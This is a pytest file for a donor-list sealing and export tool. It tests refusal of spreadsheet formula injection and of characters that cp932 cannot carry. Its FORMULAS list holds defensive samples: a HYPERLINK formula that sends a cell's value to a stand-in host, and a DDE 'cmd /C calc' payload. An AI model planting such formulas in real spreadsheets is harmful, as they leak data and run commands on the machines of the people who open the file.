"""core/safety.py: formula text and what an encoding cannot carry, on values; seal, check, approve and the
export plan built on it (no files: the core's tables, as in test_properties)."""
import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings, strategies as st

from donorguard.core import export, manifest as mf, safety
from donorguard.core.check import check
from donorguard.core.errors import ExportRefused, NotApprovable, UnfitToSeal
from donorguard.core.rules import parse
from donorguard.core.seal import seal
from donorguard.core.table import Table
from donorguard.store import keys, rulesets
from donorguard.text.messages import Messages
from donorguard.tools import synth

RULES = rulesets.load()
STAMP = mf.Stamp("2026-01-05T10:00:00+09:00", "tester")
HEADER = 3


def arr(values) -> pa.Array:
    return pa.array(values, pa.large_string())


@pytest.fixture(scope="module")
def key(tmp_path_factory):
    return keys.create(tmp_path_factory.mktemp("k") / "k.key")


def table(df: pd.DataFrame, seals=None) -> Table:
    rows = np.arange(len(df)) + HEADER + 1
    return Table(df.astype(object), rows, pd.Series(seals if seals is not None else [None] * len(df), dtype=object))


def people(n=8, seed=4, **cells) -> pd.DataFrame:
    """A synthetic list with some cells replaced: cells={(i, column): text}."""
    df = synth.make_people(n, seed=seed).astype(str)
    for (i, c), v in cells.get("cells", {}).items():
        df.loc[i, c] = v
    return df


# -- formula text ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x/?n="&I2,"詳細")', "@SUM(1+1)", "+1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
            "\r=1", "＝1+1", "＋1", "－1", "＠A1", "=", "-"]
SAFE = ["山田 太郎", "1+1", "a=b", "", " ", "〒100-0001", "東京都千代田区1-1", "(=)", "'=1", "x＝"]


def test_formula_positions_on_the_canonical_form():
    values = FORMULAS + SAFE
    canon = pd.Series(values, dtype=object)
    from donorguard.core.kinds.values import text
    got = safety.formula_positions(arr(text(canon).tolist()))
    assert got.tolist() == list(range(len(FORMULAS))), [values[i] for i in got]


CHARS = list("=+-@\t\r ＝＋－＠ｰ＞＜0１a山𠮷\u3000.\uff1c\uff5e")     # triggers, their neighbours in UTF-8


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(CHARS), max_size=4), max_size=30), st.integers(0, 3))
def test_formula_positions_read_from_the_buffers_match_a_regex(values, cut):
    """The first-bytes reading (no string per value) against the plain definition, on sliced arrays too."""
    import re
    a = arr(["x"] * cut + values).slice(cut)
    expect = [i for i, v in enumerate(values) if re.match("[=+\\-@\t\r＝＋－＠]", v)]
    assert safety.formula_positions(a).tolist() == expect
    signed = [i for i in expect if not re.fullmatch(r"[-+][0-9]+(\.[0-9]+)?", values[i])]
    assert safety.formula_positions(a, signed=True).tolist() == signed


def test_signed_columns_allow_plain_signed_numbers_only():
    values = arr(["-5000", "+3", "-1.5", "-1+2", "=1", "-", "--5", "5000", "-５"])
    assert safety.formula_positions(values).tolist() == [0, 1, 2, 3, 4, 5, 6, 8]
    assert safety.formula_positions(values, signed=True).tolist() == [3, 4, 5, 6, 8]


def test_seal_refuses_formula_text_naming_rows_and_columns(key):
    df = people(cells={(0, "氏名"): FORMULAS[0], (2, "住所"): "\t=1+1", (3, "住所"): "＠SUM(A1)"})
    with pytest.raises(UnfitToSeal) as e:
        seal(table(df), RULES, key, "S", HEADER, stamp=STAMP)
    assert [i for i in e.value.details["items"] if i[1] == "formula"] == [("氏名", "formula", [4]),
                                                                          ("住所", "formula", [6, 7])]


def test_a_signed_amount_column_seals_a_negative_amount(key, tmp_path):
    text = rulesets.find().read_text("utf-8").replace("{name: 寄附金額, kind: amount,",
                                                       "{name: 寄附金額, kind: amount, signed: true,")
    signed = parse(text, "signed.yaml")
    df = people(cells={(1, "寄附金額"): "-5000"})
    with pytest.raises(UnfitToSeal):
        seal(table(df), RULES, key, "S", HEADER, stamp=STAMP)
    seals, m, notices = seal(table(df), signed, key, "S", HEADER, stamp=STAMP)
    assert check(table(df, seals), m, key).clean
    df.loc[2, "寄附金額"] = "-1+2"
    with pytest.raises(UnfitToSeal):
        seal(table(df), signed, key, "S", HEADER, stamp=STAMP)


def _sealed_then(key, edit, rules=RULES):
    df = people()
    seals, m, _ = seal(table(df), rules, key, "S", HEADER, stamp=STAMP)
    edited = df.copy()
    edit(edited)
    return table(edited, seals), m


def test_check_blocks_formula_text_as_its_own_finding_and_cause(key):
    t, m = _sealed_then(key, lambda df: df.__setitem__("住所", ["=1+1" if i == 3 else v for i, v in
                                                              enumerate(df["住所"])]))
    r = check(t, m, key)
    assert r.status == "blocked"
    f = r.findings[r.findings["kind"] == "formula"]
    assert f[["row", "columns"]].values.tolist() == [[7, ["住所"]]]
    assert "7 行目の 住所 は = + - @" in f["message"].iat[0]
    assert "owner_changed" in set(r.findings["kind"])                       # the edit itself, as ever
    cause = r.diagnosis[r.diagnosis["cause"] == "formula"]
    assert cause[["rows", "columns"]].values.tolist() == [[[7], ["住所"]]]
    assert r.problem_rows == 1


def test_a_list_sealed_with_formula_text_before_this_check_is_blocked(key):
    """Sealed by a version that did not refuse formula text: the seals hold, the check still blocks."""
    df = people(cells={(5, "氏名"): "+1+1"})
    m = mf.new(RULES, key, "S", HEADER, (np.arange(len(df)) + HEADER + 1).tolist(), STAMP)
    from donorguard.core.fingerprint import canonical
    from donorguard.core.seal import seals_for
    seals = seals_for(m, key, RULES, np.arange(len(df)) + HEADER + 1, canonical(table(df).values, RULES))
    r = check(table(df, seals), m, key, lang="en")
    assert r.findings[["row", "kind"]].values.tolist() == [[9, "formula"]]
    assert r.findings["message"].iat[0] == "Row 9: 氏名 begins with =, +, -, @ or the like, which a spreadsheet " \
                                           "runs as a formula."
    with pytest.raises(export.ExportBlocked):
        export.batches(table(df, seals), r, m)


def test_approve_refuses_a_row_whose_correction_is_formula_text(key):
    from donorguard.core.approve import approve
    t, m = _sealed_then(key, lambda df: df.__setitem__("氏名", ["@x" if i == 1 else v for i, v in
                                                              enumerate(df["氏名"])]))
    r = check(t, m, key)
    with pytest.raises(NotApprovable) as e:
        approve(t, m, key, r, [5], "訂正", stamp=STAMP)
    assert ("氏名", "formula", [5]) in e.value.details["items"]


def test_export_looks_again_at_what_it_would_write(key):
    """A date format that makes every date begin with = passes seal and check (the values are fine) and is
    refused by the export, naming the column and rows."""
    text = rulesets.find().read_text("utf-8").replace('date_format: "%Y/%m/%d"', 'date_format: "=%Y/%m/%d"')
    rules = parse(text, "eq.yaml")
    df = people()
    seals, m, _ = seal(table(df), rules, key, "S", HEADER, stamp=STAMP)
    r = check(table(df, seals), m, key)
    assert r.clean
    with pytest.raises(ExportRefused) as e:
        export.batches(table(df, seals), r, m)
    assert e.value.details["reason"] == "formula"
    assert e.value.details["items"] == [("生年月日", list(range(4, 12))), ("寄附日", list(range(4, 12)))]


# -- encodings --------------------------------------------------------------------------------------

def test_what_cp932_does_not_carry():
    """The facts the notices rest on, from Python's own codec."""
    assert all(safety._carried(chr(c), "cp932") is True for c in range(128))
    assert safety._carried("〜", "cp932") == "～" and safety._carried("−", "cp932") == "－"
    assert safety._carried("¢", "cp932") == "￠"
    for ch in ("𠮷", "😀", "\U000E0100", "\u00a0", "é"):
        assert safety._carried(ch, "cp932") is None, hex(ord(ch))
    for ch in ("～", "－", "髙", "﨑", "①", "ｱ", "\u3000"):
        assert safety._carried(ch, "cp932") is True
    assert all(safety._carried(ch, "utf-8-sig") is True for ch in ("〜", "𠮷", "\U000E0100", "\u00a0"))


def test_uncarried_names_each_character_with_its_positions():
    values = {"氏名": arr(["𠮷田 花子", "山田", "", "𠮷野 😀"]),
              "住所": arr(["見本県〜見本市", "abc", "1−2", "葛\U000E0100城"]),
              "番号": arr(["123", "456", "", "7"])}
    got = [(c, ch, b, p.tolist()) for c, ch, b, p in safety.uncarried(values, "cp932")]
    assert got == [("氏名", "𠮷", None, [0, 3]), ("氏名", "😀", None, [3]), ("住所", "〜", "～", [0]),
                   ("住所", "−", "－", [2]), ("住所", "\U000E0100", None, [3])]
    assert safety.uncarried(values, "utf-8-sig") == []


def test_uncarried_on_a_sliced_array():
    a = arr(["x", "ok", "é", "𠮷"]).slice(1, 2)
    assert [(ch, p.tolist()) for _, ch, _, p in safety.uncarried({"c": a}, "cp932")] == [("é", [1])]


def test_seal_and_check_give_notices_not_refusals(key):
    df = people(cells={(0, "氏名"): "𠮷田\u3000花子", (1, "住所"): "見本県〜見本市\u00a01-2", (2, "フリガナ"): "ｷﾁﾀﾞ"})
    seals, m, notices = seal(table(df), RULES, key, "S", HEADER, stamp=STAMP)
    assert notices[["notice", "rows", "columns"]].values.tolist() == [["encoding", [4], ["氏名"]],
                                                                      ["encoding", [5], ["住所"]]]
    assert "「𠮷」（U+20BB7、行 4）" in notices["message"].iat[0]
    assert "「〜」（U+301C、行 5。書き出すと「～」U+FF5E）" in notices["message"].iat[1]
    assert "--encoding utf-8-sig" in notices["message"].iat[1]
    r = check(table(df, seals), m, key)
    assert r.clean and r.notices.values.tolist() == notices.values.tolist()


def test_export_refuses_what_the_encoding_cannot_carry_and_utf8_takes_it(key):
    df = people(cells={(0, "氏名"): "𠮷田\u3000花子", (6, "住所"): "Café"})
    seals, m, _ = seal(table(df), RULES, key, "S", HEADER, stamp=STAMP)
    t = table(df, seals)
    r = check(t, m, key)
    with pytest.raises(ExportRefused) as e:
        export.batches(t, r, m, "cp932")
    assert e.value.details["items"] == [("氏名", "𠮷", None, [4]), ("住所", "é", None, [10])]
    assert "U+20BB7" in str(e.value) and "utf-8-sig" in str(e.value)
    assert export.batches(t, r, m, "utf-8-sig") and export.batches(t, r, m, None)      # UTF-8, and .xlsx


def test_only_export_columns_are_looked_at(key):
    text = rulesets.find().read_text("utf-8").replace("  columns: [住所地市町村コード, 寄附者番号, 氏名, フリガナ,",
                                                       "  columns: [住所地市町村コード, 寄附者番号, 個人番号] #")
    rules = parse(text, "narrow.yaml")
    df = people(cells={(0, "氏名"): "𠮷田"})
    assert safety.notices(df, df, rules, np.arange(len(df)) + 4, Messages("ja")) == []


def test_screened_leaves_a_clean_report_alone(key):
    df = people()
    seals, m, _ = seal(table(df), RULES, key, "S", HEADER, stamp=STAMP)
    r = check(table(df, seals), m, key)
    assert r.clean and r.notices.empty and r.findings.empty and r.diagnosis.empty
